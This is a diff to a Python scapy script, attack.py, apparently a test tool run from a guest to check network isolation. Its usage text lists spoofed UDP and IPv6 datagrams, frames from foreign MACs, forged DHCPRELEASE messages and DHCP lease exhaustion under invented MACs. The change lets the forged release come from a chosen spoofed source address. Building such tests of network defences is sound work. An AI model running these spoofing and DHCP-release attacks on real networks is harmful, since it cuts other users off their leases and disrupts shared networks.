@@ -10,7 +10,9 @@ namespace it runs in. Run with Debian's python3 (python3-scapy).
   attack.py udp SRC DST PORT         one UDP datagram from a chosen source
   attack.py udp6 SRC DST PORT        the same over IPv6
   attack.py foreign-mac SRC DST PORT a UDP datagram from another MAC
-  attack.py release MAC IP SERVER    a DHCPRELEASE for MAC's lease of IP
+  attack.py release MAC IP SERVER [SRC]
+                                     a DHCPRELEASE for MAC's lease of IP, sent
+                                     from SRC (default: IP itself)
   attack.py dora N own|invented      N clients under invented MACs take leases
                                      (DISCOVER, OFFER, REQUEST, ACK), sent from
                                      this guest's own MAC or from each invented
@@ -114,8 +116,9 @@ def main(argv):
         send(Ether(src=MAC, dst=ALL_NODES) / IPv6(src=src, dst=dst) / UDP(sport=port, dport=port) / b"attack")
     elif cmd == "release":
         mac, ip, server = argv[1], argv[2], argv[3]
+        src = argv[4] if len(argv) > 4 else ip
         send(Ether(src=MAC, dst="ff:ff:ff:ff:ff:ff")
-             / IP(src=ip, dst=server)
+             / IP(src=src, dst=server)
              / UDP(sport=68, dport=67)
              / BOOTP(chaddr=mac2str(mac), ciaddr=ip, xid=0x5150)
              / DHCP(options=[("message-type", "release"), ("server_id", server),
